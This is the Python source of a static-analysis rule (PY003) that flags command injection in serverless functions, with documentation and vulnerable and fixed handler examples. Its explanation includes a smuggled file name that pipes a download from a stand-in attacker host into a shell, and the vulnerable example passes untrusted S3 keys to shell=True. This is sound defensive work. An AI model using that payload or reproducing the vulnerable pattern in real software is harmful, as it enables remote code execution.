"""PY003: Shell command built from untrusted input."""

from __future__ import annotations

from collections.abc import Iterator

from faasguard.analysis.project import Project
from faasguard.analysis.python.findings import flow_hits
from faasguard.core.enums import Category, Confidence, Severity
from faasguard.core.rule import Hit, Rule, RuleContext

SEVERITY = Severity.HIGH


def check(project: Project, ctx: RuleContext) -> Iterator[Hit]:
    return flow_hits(project, "PY003", SEVERITY)


RULE = Rule(
    id="PY003",
    name="command-injection",
    category=Category.INJECTION_COMMAND,
    severity=SEVERITY,
    summary="Untrusted input reaches a shell command or chooses the program to run.",
    cwe=(78,),
    confidence=Confidence.HIGH,
    remediation=(
        "Run programs with an argument list and no shell: subprocess.run([program, arg], "
        "check=True). If a shell is unavoidable, quote every value with shlex.quote. Never let "
        "input choose the program."
    ),
    references=(
        "https://docs.python.org/3/library/subprocess.html#security-considerations",
        "https://owasp.org/www-community/attacks/Command_Injection",
    ),
    project_check=check,
    doc="""
## What it does
Follows untrusted data to `os.system`, `os.popen`, `subprocess` calls with `shell=True`, a
`["sh", "-c", ...]` argument list or a program name from input, `os.exec*`/`os.spawn*`,
`asyncio.create_subprocess_shell` and remote shells (`exec_command`). An argument list without a
shell is the safe variant and is not reported; `shlex.quote` makes a value safe for a shell.

## Why is this bad?
A file name such as `x.jpg'; curl evil.example | sh; '` runs any command inside the function with
its role's credentials (read from the environment), its network access and its `/tmp`.

## Example
```python app.py
import subprocess
import urllib.parse

def handler(event, context):
    for record in event["Records"]:
        key = urllib.parse.unquote_plus(record["s3"]["object"]["key"])
        subprocess.run(f"convert '/tmp/{key}' -resize 320x320 /tmp/thumb.jpg", shell=True)
```

## Use instead
```python app.py
import os
import subprocess
import urllib.parse

def handler(event, context):
    for record in event["Records"]:
        key = urllib.parse.unquote_plus(record["s3"]["object"]["key"])
        source = os.path.join("/tmp", os.path.basename(key))
        command = ["/opt/bin/convert", source, "-resize", "320x320", "/tmp/thumb.jpg"]
        subprocess.run(command, check=True)
```

## Known problems
Arguments in a list can still be read as options by the program (`-o/etc/x`); the rule does not
report that.

## References
- https://docs.python.org/3/library/subprocess.html#security-considerations
""",
)

__all__ = ["RULE", "check"]
